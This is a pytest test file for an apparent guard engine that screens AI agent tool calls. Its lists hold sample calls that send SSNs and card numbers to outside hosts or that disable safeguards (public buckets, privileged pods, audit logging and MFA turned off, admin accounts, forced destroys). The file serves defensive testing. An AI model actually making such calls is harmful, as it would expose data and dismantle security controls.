"""JSON numbers and booleans are judged as their text: PII in integer fields, flags that switch a safeguard off (held), look-alikes allowed."""

from __future__ import annotations

import time

import pytest

from aegis_mcp.engine.extract import MAX_LIST_SCALARS, MAX_SCALARS, extract
from aegis_mcp.engine.model import ToolCall
from tests.engine.verdicts import ENGINE, assert_decision, assert_stopped

# -- extraction ----------------------------------------------------------------------------------


def test_an_object_s_booleans_and_integers_are_read_as_text() -> None:
    ctx = extract(ToolCall("t", {"private": False, "admin": True, "n": 7, "price": 9.5, "none": None}))
    vals = {(f.path, f.raw) for f in ctx.extra["scalars"]}
    assert vals == {("/private", "false"), ("/admin", "true"), ("/n", "7")}  # floats and nulls say nothing
    assert not any(f.raw in ("false", "true", "7") for f in ctx.fragments)  # (gates and text detectors never see them)


def test_a_list_gives_only_identifier_sized_integers() -> None:
    ctx = extract(ToolCall("t", {"xs": [1, 2, 3, True, 536228817]}))
    assert [f.raw for f in ctx.extra["scalars"]] == ["536228817"]


def test_scalars_are_bounded_and_never_raise_a_cap() -> None:
    args = {"rows": [4539578763621486 + i for i in range(5000)], "more": {f"k{i}": i for i in range(500)}}
    ctx = extract(ToolCall("t", args))
    assert len(ctx.extra["scalars"]) <= MAX_SCALARS
    assert sum(1 for f in ctx.extra["scalars"] if f.path.startswith("/rows/")) <= MAX_LIST_SCALARS
    assert ctx.extra["signals"] == []


def test_the_flat_path_and_the_walk_read_the_same_scalars() -> None:
    args = {"a": 1, "b": True, "c": "x", "d": 2.5, "e": None, "f": 123456789}
    flat = extract(ToolCall("t", args)).extra["scalars"]
    walked = extract(ToolCall("t", {**args, "g": {"h": 1}})).extra["scalars"]
    assert flat == walked[: len(flat)]


def test_five_thousand_numbers_stay_cheap() -> None:
    call = ToolCall("update_records", {"values": list(range(10**9, 10**9 + 5000)), "flags": {f"f{i}": i for i in range(2000)}})
    t = time.process_time()
    d = ENGINE.check(call)
    assert time.process_time() - t < 1.0  # generous: the budget itself is measured in bench/
    assert d.decision in ("allow", "pending", "block")


# -- personal data in numeric fields --------------------------------------------------------------

HELD = [
    ("send_email", {"to": "claims@outside-adjusters.example", "subject": "file", "card_number": 4539578763621486}),
    ("http_request", {"url": "https://intake.unknown-host.example/v1", "method": "POST",
                      "body": {"customer": {"ssn": 536228817, "card": 5425233430109903}}}),
    ("slack_post_message", {"channel": "#random", "text": "details", "blocks": [{"fields": {"ssn": 536228817, "dob": "1984-02-11"}}]}),
]
ALLOWED = [
    ("discord_send_message", {"channel_id": 1098765432109876543, "content": "deploy finished"}),
    ("get_messages", {"channel_id": 1234567890123456789, "after": 1700000000000, "limit": 50}),
    ("http_request", {"url": "https://api.shop.example/orders", "method": "POST",
                      "body": {"order_id": 4539578763621486, "amount": 1999, "ts": 1700000000}}),
    ("lookup_user", {"user_id": 536228817}),
    ("set_thermostat", {"device_id": 536228817, "temp": 21, "eco": True}),
    ("create_issue", {"repo": "acme/app", "title": "crash on start", "milestone": 3, "assignee_id": 123456789}),
]


@pytest.mark.parametrize("tool,args", HELD)
def test_numeric_pii_leaving_is_held(tool: str, args: dict) -> None:
    assert_stopped(tool, args)


@pytest.mark.parametrize("tool,args", ALLOWED)
def test_ids_counts_and_timestamps_are_allowed(tool: str, args: dict) -> None:
    assert_decision(tool, args, "allow")


def test_a_numeric_ssn_in_a_crm_record_is_recorded_like_its_text() -> None:
    as_int = assert_decision("update_customer", {"id": "c-19", "ssn": 536228817}, "allow")
    as_text = assert_decision("update_customer", {"id": "c-19", "ssn": "536228817"}, "allow")
    assert [(s.rule, s.severity) for s in as_int.signals] == [(s.rule, s.severity) for s in as_text.signals]
    assert as_int.signals  # recorded, not silent


# -- a safeguard switched off by a flag -----------------------------------------------------------

FLAG_HELD = [
    ("git_push", {"remote": "origin", "branch": "main", "force": True}),
    ("github_update_ref", {"owner": "acme", "repo": "api", "ref": "heads/master", "sha": "9f1c2e", "force": True}),
    ("github_update_branch_protection", {"owner": "acme", "repo": "api", "branch": "main", "enforce_admins": False,
                                         "required_approving_review_count": 0}),
    ("update_branch_protection", {"repo": "acme/api", "branch": "release", "allow_force_pushes": True}),
    ("update_bucket", {"bucket": "customer-exports", "block_public_access": False}),
    ("s3_put_public_access_block", {"Bucket": "exports", "PublicAccessBlockConfiguration": {"BlockPublicAcls": False,
                                                                                             "RestrictPublicBuckets": False}}),
    ("slack_update_channel", {"channel": "C0451", "is_private": False}),
    ("update_repository", {"repo": "acme/roadmap", "private": False}),
    ("k8s_create_pod", {"namespace": "default", "spec": {"hostPID": True, "containers": [{"name": "x", "image": "alpine",
                                                                                           "securityContext": {"privileged": True}}]}}),
    ("http_request", {"url": "https://collector.example/upload", "method": "POST",
                      "headers": {"Authorization": "Bearer 8f3a"}, "verify_ssl": False}),
    ("create_user", {"username": "svc-backup2", "is_admin": True}),
    ("okta_create_user", {"login": "j.doe@corp.example", "role": "Super_Admin"}),
    ("cloudtrail_update_trail", {"name": "org-trail", "enable_logging": False}),
    ("gcp_update_audit_config", {"project": "prod", "audit_logging": False}),
    ("aws_guardduty_update_detector", {"detector_id": "abc", "enable": False}),
    ("update_org_settings", {"org": "acme", "mfa_required": "false"}),
    ("rds_modify_db_instance", {"DBInstanceIdentifier": "prod", "DeletionProtection": False}),
    ("update_repository_security", {"repo": "acme/api", "secret_scanning": False}),
    ("terraform_apply", {"dir": "infra/prod", "destroy": True, "auto_approve": True}),
]
FLAG_ALLOWED = [
    ("git_push", {"remote": "origin", "branch": "feature/login-form", "force": True}),
    ("update_settings", {"email_alerts": False, "dark_mode": True}),
    ("update_config", {"debug_logging": False, "verbose": False}),
    ("create_repository", {"name": "my-site", "private": False}),
    ("create_gist", {"description": "snippet", "public": True, "files": {"a.py": {"content": "print(1)"}}}),
    ("create_user", {"username": "alice", "role": "viewer", "send_invite": True}),
    ("list_repos", {"private": False, "per_page": 50}),
    ("get_channels", {"is_private": False, "exclude_archived": True}),
    ("update_profile", {"display_name": "Al", "public_email": True}),
    ("http_request", {"url": "https://api.example.com/items", "method": "GET", "follow_redirects": True, "verify": True}),
    ("http_request", {"url": "https://devbox.internal.example/health", "method": "GET", "verify": False}),
    ("update_notification_settings", {"enabled": False}),
    ("set_feature_flag", {"flag": "new_checkout", "enabled": False}),
    ("update_task", {"task_id": "t1", "completed": True, "review": False}),
    ("terraform_plan", {"dir": "infra/dev", "destroy": False}),
    ("docker_run", {"image": "nginx", "detach": True, "ports": ["8080:80"], "remove": True}),
    ("create_bucket", {"bucket": "test-scratch", "versioning": False}),
    ("git_commit", {"message": "wip", "no_verify": True}),
]


@pytest.mark.parametrize("tool,args", FLAG_HELD)
def test_a_safeguard_switched_off_is_held(tool: str, args: dict) -> None:
    assert_stopped(tool, args)


@pytest.mark.parametrize("tool,args", FLAG_ALLOWED)
def test_ordinary_flags_are_allowed(tool: str, args: dict) -> None:
    assert_decision(tool, args, "allow")
